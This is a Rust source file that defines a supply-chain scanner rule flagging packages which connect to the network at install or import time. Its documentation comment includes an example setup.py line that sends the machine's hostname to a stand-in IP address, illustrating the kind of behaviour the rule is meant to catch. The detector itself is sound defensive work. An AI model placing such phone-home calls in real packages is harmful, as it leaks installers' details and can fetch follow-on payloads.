use crate::Confidence::{Low, Medium};
use crate::Severity::{Low as L, Medium as M};
use crate::model::declare_rule;
use crate::rules::behaviour_rule;

declare_rule! {
    /// ## What it finds
    /// A network request or connection made at install time, or on import.
    ///
    /// ## Why it matters
    /// An install that phones home can report who installed it (a dependency-confusion
    /// probe) or fetch a second stage. Libraries connect when you call them, not when they
    /// are installed or imported.
    ///
    /// ## Example
    /// ```python
    /// # setup.py
    /// urllib.request.urlopen("http://203.0.113.7/ping?h=" + socket.gethostname())
    /// ```
    ///
    /// ## When it is wrong
    /// Packages that download a prebuilt binary at install time (some native tools)
    /// connect at install; the finding is medium severity with medium confidence.
    InstallNetwork {
        id: "install-network",
        summary: "connects to the network at install or import time",
        severity: Medium,
        confidence: Medium,
    }
}

behaviour_rule!(
    InstallNetwork,
    Network,
    [Some(M), Some(L), None],
    |b| if b.context == customs_analyze::Context::Install {
        Medium
    } else {
        Low
    },
    |b| format!("{} ({})", b.detail, crate::when(b.context))
);
